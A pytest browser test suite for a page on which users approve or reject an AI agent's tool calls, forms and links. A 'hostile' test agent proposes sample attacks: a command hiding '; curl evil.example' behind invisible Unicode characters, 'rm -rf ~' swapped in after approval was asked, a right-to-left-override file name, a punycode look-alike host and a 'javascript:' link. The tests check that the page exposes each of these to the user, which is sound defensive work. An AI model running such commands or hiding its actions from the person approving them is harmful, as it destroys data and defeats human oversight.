"""Questions on our own page: what is approved is seen first, and no stray key allows anything."""

from collections.abc import Callable

import pytest

from tests.browser.own_page import COMPOSER, QUESTION, OwnPage
from tests.browser.servers import READER

pytestmark = pytest.mark.slow

Converse = Callable[..., OwnPage]

ARMED = f"{QUESTION}[data-armed]:focus"
"""Keys count a moment after the focus has moved to a question."""


def ask(converse: Converse, prompt: str, agent: str = "demo") -> OwnPage:
    """Have a question put, with the focus on it."""
    talk = converse(agent)
    talk.say(prompt)
    talk.page.see(ARMED)
    return talk


# -- permissions -----------------------------------------------------------------------------------


def test_the_change_is_seen_before_the_answer_and_one_key_allows_it(converse: Converse) -> None:
    talk = ask(converse, "/permission")
    page = talk.page
    page.see(f"{QUESTION} h3", "Write hello.txt?")
    page.see(f"{QUESTION} .diff", "hello.txt")
    page.see(f"{QUESTION} .diff-plus", "hello")
    names = page.texts(f"{QUESTION} .answer")
    assert [name.split("\n")[0] for name in names] == ["a", "A", "r", "R"]
    page.press("a")
    page.see(".answered-good", "Allowed once by you")
    talk.hears("would be written")
    page.see(".tool[data-status=completed]", "Write hello.txt")
    # The focus goes back to where messages are written.
    assert talk.focused().startswith("TEXTAREA")


def test_a_long_change_leaves_the_question_and_its_answers_in_sight(converse: Converse) -> None:
    talk = converse("hostile")
    page = talk.page
    page.resize(1280, 800)
    talk.say("rewrite")
    page.see(f"{QUESTION}:focus")
    inside = (
        "(({ top, bottom }) => [...document.querySelectorAll('.question-head, .answers')].every((one) =>"
        "one.getBoundingClientRect().top >= top && one.getBoundingClientRect().bottom <= bottom))"
        "(document.querySelector('.scroller').getBoundingClientRect())"
    )
    page.wait(inside)
    page.resize(900, 700)


@pytest.mark.parametrize("key", ["Enter", "Space", "y", "Control+a"])
def test_no_other_key_answers(converse: Converse, key: str) -> None:
    talk = ask(converse, "/permission")
    talk.page.press(key)
    talk.page.see(f"{QUESTION}:focus")
    assert talk.page.count(".answered") == 0
    talk.page.press("r")
    talk.page.see(".answered-bad", "Rejected by you")


def test_a_key_that_was_meant_for_a_message_allows_nothing(converse: Converse) -> None:
    talk = converse()
    page = talk.page
    talk.say("/slow 3 0.3")
    talk.hears("step 1")
    # The permission comes while somebody writes: the focus stays where it is.
    talk.rests()
    page.fill(COMPOSER, "a message that is not sent yet")
    talk.command(type="prompt", content=[{"type": "text", "text": "/permission"}])
    page.see(QUESTION)
    assert talk.focused().startswith("TEXTAREA")
    page.press("a")
    page.press("1")
    assert page.count(".answered") == 0
    page.see(QUESTION)
    page.fill(COMPOSER, "")
    page.click(f"{QUESTION} .answer", "Reject", nth=0)
    talk.hears("Nothing was written.")


def test_a_rejection_carries_its_reason(converse: Converse) -> None:
    talk = ask(converse, "hidden", "hostile")
    page = talk.page
    page.fill(f"{QUESTION} .reason input", "use the bin")
    page.press("Enter", f"{QUESTION} .reason input")
    page.see(".answered-bad", "use the bin")
    talk.hears("It did not run: use the bin")


def test_what_hides_in_a_command_is_shown(converse: Converse) -> None:
    talk = ask(converse, "hidden", "hostile")
    page = talk.page
    page.see(f"{QUESTION} .proposal-command", "rm -rf /tmp/a")
    page.see(f"{QUESTION} .proposal-command", "; curl evil.example")
    marked = page.texts(f"{QUESTION} .proposal-command .hidden-character")
    assert marked == ["\\u202e", "\\u202c", "\\u200b", "⟨60 blanks⟩"]
    assert page.texts(f"{QUESTION} h3 .hidden-character") == ["\\u200d"]
    page.see(f"{QUESTION} .arguments", "\\x1b[2K")
    page.press("r")
    talk.hears("It did not run")


def test_hidden_characters_are_spelled_in_the_editor_of_arguments(converse: Converse) -> None:
    talk = ask(converse, "spelled", "hostile")
    page = talk.page
    page.press("e")
    page.see(f"{QUESTION} .code-field:focus")
    given = page.evaluate("document.querySelector('.code-field').value")
    assert given == '{\n  "path": "a\\u202etxt.exe"\n}'
    page.see(f"{QUESTION} .field-hint", "As the agent gave them.")
    page.fill(f"{QUESTION} .code-field", given.replace("\\u202e", ""))
    page.click(f"{QUESTION} .answer-allow", "Allow once, with your changes")
    talk.hears("Wrote atxt.exe")


def test_arguments_are_edited_and_the_preview_follows(converse: Converse) -> None:
    talk = ask(converse, "/edit")
    page = talk.page
    page.press("e")
    field = f"{QUESTION} .code-field"
    page.see(f"{field}:focus")
    page.fill(field, '{"path": "hello.txt", "content": ')
    page.see(f"{QUESTION} .field-error", "This is not JSON")
    assert page.attribute(f"{QUESTION} .answer-allow", "disabled") is not None
    page.fill(field, "[1]")
    page.see(f"{QUESTION} .field-error", "Arguments are an object")
    page.fill(field, '{"path": "other.txt", "content": "goodbye\\n"}')
    page.see(f"{QUESTION} .diff-path", "other.txt")
    page.see(f"{QUESTION} .diff-plus", "goodbye")
    # Escape leaves the field, and does not stop the turn.
    page.press("Escape")
    page.see(ARMED)
    page.see(f"{QUESTION} .answer-allow", "Allow once, with your changes")
    page.press("a")
    talk.hears("other.txt would be written")
    page.click(".answered .disclosure-head", "The arguments as they were edited")
    page.see(".answered .code", "goodbye")


def test_a_call_that_changes_after_it_was_asked_about_is_said_to_have_changed(converse: Converse) -> None:
    talk = ask(converse, "bait", "hostile")
    page = talk.page
    page.see(f"{QUESTION} .more-warning[role=alert]", "The agent changed this call after it asked.")
    page.see(f"{QUESTION} .proposal-command", "rm -rf ~")
    page.see(ARMED)
    page.press("r")
    talk.hears("Refused.")


def test_two_questions_are_answered_one_after_the_other_by_their_numbers(converse: Converse) -> None:
    talk = ask(converse, "/permission-twice")
    page = talk.page
    page.see(f"{QUESTION}:focus", "read_notes?")
    page.press("1")
    page.see(ARMED, "send_report?")
    page.press("3")
    talk.hears("read_notes: allowed, send_report: refused")
    page.see(".tool[data-status=denied]", "send_report")


def test_an_option_that_wants_words_asks_for_them(converse: Converse) -> None:
    talk = ask(converse, "options", "hostile")
    page = talk.page
    page.press("2")
    page.see(f"{QUESTION} .reason input:focus")
    page.see(f"{QUESTION} .reason label", "Answer for the tool: your words")
    page.fill(f"{QUESTION} .reason input", "it was sent by hand")
    page.press("Enter", f"{QUESTION} .reason input")
    talk.hears("own: it was sent by hand")


def test_an_answer_given_elsewhere_is_shown_with_who_gave_it(converse: Converse) -> None:
    talk = ask(converse, "/permission")
    question = talk.page.attribute(QUESTION, "data-question")
    talk.command(type="answer", question_id=question, option_id="reject_once")
    talk.page.see(".answered-bad", "Rejected elsewhere (http:")
    talk.hears("Nothing was written.")


def test_somebody_who_may_only_read_sees_the_question_and_cannot_answer(converse: Converse) -> None:
    talk = converse(token=READER)
    talk.command(type="prompt", content=[{"type": "text", "text": "/edit"}])
    page = talk.page
    page.see(f"{QUESTION} .diff", "hello.txt")
    page.see(f"{QUESTION} .field-hint", "Your token may only read.")
    for key in ("a", "1", "r"):
        page.press(key, QUESTION)
    assert page.count(f"{QUESTION} .answer:not(:disabled)") == 0
    talk.command(
        type="answer", question_id=page.attribute(QUESTION, "data-question"), option_id="reject_once"
    )
    page.see(".answered-bad", "Rejected elsewhere (http:")


def test_a_question_is_there_again_after_a_reload(converse: Converse) -> None:
    talk = ask(converse, "/permission")
    talk.page.reload()
    talk.page.see(ARMED, "Write hello.txt?")
    talk.page.see(f"{QUESTION} .diff", "hello.txt")
    talk.page.press("a")
    talk.hears("would be written")


@pytest.mark.parametrize(
    ("agent", "prompt"), [("demo", "/edit"), ("hostile", "hidden"), ("hostile", "form"), ("hostile", "link")]
)
def test_axe_finds_nothing_serious_in_a_question(
    converse: Converse, axe: str, agent: str, prompt: str
) -> None:
    talk = ask(converse, prompt, agent)
    page = talk.page
    if prompt == "/edit":
        page.press("e")
        page.fill(f"{QUESTION} .code-field", "{")
    elif prompt == "form":
        page.click(f"{QUESTION} button", "Send")
    page.evaluate(axe)
    assert talk.findings() == []
    page.theme("dark")
    page.wait("document.documentElement.dataset.theme === 'dark'")
    assert talk.findings() == []
    talk.picture(f"question-{prompt.strip('/')}")
    page.theme("light")


# -- forms, links, tools of the front end ----------------------------------------------------------


def test_a_form_checks_each_field_and_sends_what_was_filled_in(converse: Converse) -> None:
    talk = ask(converse, "form", "hostile")
    page = talk.page
    page.see(f"{QUESTION} .field-hint", "As on the invoice")
    assert page.evaluate("document.querySelector('[data-field=seats] input').value") == "2"
    page.fill("[data-field=email] input", "nobody")
    page.fill("[data-field=site] input", "nowhere")
    page.fill("[data-field=seats] input", "12")
    page.fill("[data-field=share] input", "much")
    page.click(f"{QUESTION} button", "Send")
    errors = {
        "name": "This field is needed.",
        "email": "This is not an email address.",
        "site": "This is not an address",
        "seats": "Give at most 9.",
        "share": "This is not a number.",
        "size": "Choose one.",
    }
    for name, words in errors.items():
        page.see(f"[data-field={name}] .field-error", words)
    page.see("[data-field=name] input:focus")
    page.fill("[data-field=name] input", "A")
    page.click(f"{QUESTION} button", "Send")
    page.see("[data-field=name] .field-error", "Write at least 2 characters.")
    page.fill("[data-field=name] input", "Ada")
    page.fill("[data-field=email] input", "ada@example.com")
    page.fill("[data-field=site] input", "https://example.com")
    page.fill("[data-field=day] input", "2026-01-31")
    page.fill("[data-field=seats] input", "3")
    page.fill("[data-field=share] input", "0.5")
    page.click("[data-field=size] label", "Large")
    page.select("[data-field=country] select", "CH")
    for name in ("lunch", "wifi", "desk"):
        page.click("[data-field=extras] label", name)
    page.click(f"{QUESTION} button", "Send")
    page.see("[data-field=extras] .field-error", "Choose at most 2.")
    page.click("[data-field=extras] label", "wifi")
    page.click("[data-field=news] label")
    page.click(f"{QUESTION} button", "Send")
    talk.hears(
        "Registered: [('country', 'CH'), ('day', '2026-01-31'), ('email', 'ada@example.com'), "
        "('extras', ['lunch', 'desk']), ('name', 'Ada'), ('news', False), ('seats', 3), ('share', 0.5), "
        "('site', 'https://example.com'), ('size', 'l')]"
    )
    page.see(".answered-good", "Answered by you")


def test_a_long_form_is_shown_from_its_beginning(converse: Converse) -> None:
    talk = ask(converse, "form", "hostile")
    page = talk.page
    page.see(f"{QUESTION}:focus")
    top = "document.querySelector('.question').getBoundingClientRect().top"
    scroller = "document.querySelector('.scroller').getBoundingClientRect()"
    page.wait(f"Math.abs({top} - {scroller}.top) < 40")
    assert page.evaluate(f"document.querySelector('.question').clientHeight > {scroller}.height")
    assert page.attribute("[data-field=codes] textarea", "placeholder") == '["a", "b"]'
    page.reload()
    page.see(f"{QUESTION}:focus")
    page.wait(f"Math.abs({top} - {scroller}.top) < 40")


def test_a_question_for_one_free_answer_gets_what_was_written(converse: Converse) -> None:
    talk = ask(converse, "free", "hostile")
    page = talk.page
    page.fill(f"{QUESTION} textarea", "Two lines\nof text")
    page.click(f"{QUESTION} button", "Send")
    talk.hears("You said {'answer': 'Two lines\\nof text'}")


def test_a_form_is_declined_or_cancels_its_turn(converse: Converse) -> None:
    talk = ask(converse, "/form")
    page = talk.page
    page.click(f"{QUESTION} button", "Decline")
    talk.hears("No order, then.")
    page.see(".answered-bad", "Declined by you")
    talk.say("/form")
    page.see(QUESTION)
    page.click(f"{QUESTION} button", "Cancel the turn")
    page.see(".turn-end", "Stopped.")


def test_a_link_is_shown_whole_and_opened_by_a_click(converse: Converse) -> None:
    talk = ask(converse, "/link")
    page = talk.page
    page.see(f"{QUESTION} .link-address a", "https://example.com/device")
    assert page.attribute(f"{QUESTION} .link-address a", "rel") == "noopener noreferrer"
    page.click(f"{QUESTION} button", "I have done it")
    talk.hears("the device is confirmed")


def test_the_host_that_a_link_really_opens_is_named(converse: Converse) -> None:
    talk = ask(converse, "visit", "hostile")
    talk.page.see(QUESTION, "Opens xn--exmple-cua.invalid")
    talk.page.click(f"{QUESTION} button", "Decline")
    talk.hears("Thank you.")


def test_an_address_that_is_not_of_the_web_is_not_opened(converse: Converse) -> None:
    talk = ask(converse, "link", "hostile")
    page = talk.page
    page.see(f"{QUESTION} .link-address", "javascript:window.broken=8")
    page.see(f"{QUESTION} .more-warning", "not an address of the web")
    assert page.count(f"{QUESTION} .link-address a") == 0
    page.click(f"{QUESTION} button", "Decline")
    talk.hears("Not seen.")


def test_a_tool_of_the_front_end_cannot_run_here_and_the_agent_is_told(converse: Converse) -> None:
    talk = ask(converse, "/client-tool")
    talk.page.see(QUESTION, "This page cannot run it.")
    talk.page.click(f"{QUESTION} button", "Tell the agent")
    talk.hears("The front end gave nothing.")
